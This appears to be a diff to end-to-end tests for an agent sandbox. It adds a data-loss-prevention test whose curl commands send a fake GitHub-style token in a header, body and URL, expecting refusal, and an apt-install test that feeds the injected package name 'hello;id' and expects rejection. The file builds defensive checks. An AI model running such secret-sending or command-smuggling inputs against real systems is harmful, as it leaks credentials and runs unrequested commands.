@@ -1,9 +1,14 @@
 """End to end: what the bottle lets out and what it keeps in, on the real engine."""
 
 import json
+import os
+import subprocess
+import sys
+import time
 import unittest
 
-from tests.e2e.harness import E2ETest, module_fixtures, session_of
+from tests.e2e import servers
+from tests.e2e.harness import CLI, READY, E2ETest, docker, module_fixtures, session_of, wait_ready
 
 world = None
 setUpModule, tearDownModule = module_fixtures(globals())
@@ -118,6 +123,90 @@ class TunnelLifetimes(E2ETest):
 
     def test_busy_tunnel_outlives_idle_timeout(self):
         self.assertIn("second: second", self.tunnel(5, keepalive=True, idle_timeout_seconds=3))
+
+
+class Dlp(E2ETest):
+    """A secret leaving over plain HTTP is refused, wherever it is in the request, and no report repeats it."""
+
+    def test_a_github_token_in_a_header_the_body_or_the_url_is_refused(self):
+        project = world.project(world.config())
+        report = project / "report.json"
+        # GitHub-token shaped, and given to the agent through its environment, so that no command line shows it.
+        token = "ghp_" + os.urandom(18).hex()
+        curl = "curl -sS --max-time 20 -o /dev/null"
+        script = (f'{curl} -w "header=%{{http_code}}\\n" -H "X-Note: $CBTEST_TOKEN" http://web:8000/; '
+                  f'{curl} -w "body=%{{http_code}}\\n" --data "note=$CBTEST_TOKEN" http://web:8000/; '
+                  f'{curl} -w "url=%{{http_code}}\\n" "http://web:8000/?note=$CBTEST_TOKEN"; '
+                  f'{curl} -w "clean=%{{http_code}}\\n" -H "X-Note: nothing secret" http://web:8000/')
+        proc = world.start(project, script, "--report-json", str(report), env=world.env(CBTEST_TOKEN=token))
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        for what in ("header", "body", "url"):
+            self.assertIn(f"{what}=403", proc.stdout, f"a token in the {what} must not leave")
+        self.assertIn("clean=200", proc.stdout)
+        data = json.loads(report.read_text())
+        dlp = [b for b in data["blocked"] if b["scanner"] == "dlp"]
+        self.assertEqual(sum(b["count"] for b in dlp), 3, data)
+        self.assertEqual({b["host"] for b in dlp}, {"web"})
+        self.assertRegex(proc.stderr, r"web \(1\) dlp: ")
+        for text in (proc.stdout, proc.stderr, report.read_text()):
+            self.assertNotIn(token, text)
+        self.assertNotIn(token[4:20], proc.stderr)
+
+
+def build_apt_agent(test, mirror_alias: str) -> str:
+    """The built-in image's base stage, its apt sources pointing at our mirror alone; removed after the test."""
+    tag = f"claude-bottle-test/apt-agent:{os.urandom(4).hex()}"
+    dockerfile = (f"FROM {world.images['agent-base']}\n"
+                  f"RUN rm -f /etc/apt/sources.list.d/* && echo '{servers.sources_line(mirror_alias)}' "
+                  f"> /etc/apt/sources.list\n"
+                  "LABEL claude-bottle-test=1\n")
+    docker("build", "--quiet", "--tag", tag, "-", input=dockerfile, timeout=300)
+    test.addCleanup(docker, "rmi", "--force", tag, check=False)
+    return tag
+
+
+def session_owned_by(pid: int, timeout: float = 120) -> str:
+    flt = f"label=claude-bottle.owner={os.uname().nodename}:{pid}"
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        names = docker("ps", "--filter", flt, "--filter", "label=claude-bottle.role=agent",
+                       "--format", '{{.Label "claude-bottle.session"}}').stdout.split()
+        if names:
+            return names[0]
+        time.sleep(0.2)
+    raise AssertionError(f"no session of process {pid}")
+
+
+class Apt(E2ETest):
+    """apt in a bottle on the built-in image: `claude-bottle install` from a mirror of ours, through the sidecar."""
+
+    def test_install_from_our_mirror_through_the_sidecar(self):
+        mirror = servers.apt_mirror(world.network, ["mirror"])
+        self.addCleanup(mirror.close)
+        image = build_apt_agent(self, "mirror")
+        config = world.config(allow=["mirror"], trusted=["mirror"]).replace(f'image = "{world.debian}"',
+                                                                           f'image = "{image}"')
+        project = world.project(config)
+        # The agent waits until the install is over, then runs `hello`: it never gets root to install anything.
+        script = (f"echo {READY}; i=0; while [ ! -e /workspace/installed ] && [ $i -lt 1200 ]; do sleep 0.1; "
+                  "i=$((i+1)); done; id -u; hello")
+        proc = world.popen(project, script)
+        wait_ready(proc)
+        session = session_owned_by(proc.pid)
+        bad = subprocess.run([sys.executable, str(CLI), "install", session, "hello;id"], env=world.env(),
+                             capture_output=True, text=True, timeout=60)
+        self.assertEqual(bad.returncode, 2, bad.stderr)
+        install = subprocess.run([sys.executable, str(CLI), "install", session, "hello"], env=world.env(),
+                                 capture_output=True, text=True, timeout=300)
+        self.assertEqual(install.returncode, 0, install.stdout + install.stderr)
+        self.assertIn("http://mirror ./ Release", install.stderr)
+        self.assertIn("Setting up hello", install.stderr)
+        (project / "installed").touch()
+        out, err = proc.communicate(timeout=120)
+        self.assertEqual(proc.returncode, 0, err)
+        self.assertIn("Hello, world!", out)
+        self.assertNotIn("\n0\nHello", out, "the agent itself is not root")
+        self.assertRegex(err, r"reached: .*mirror \(\d+\)", "apt went through the sidecar")
 
 
 if __name__ == "__main__":
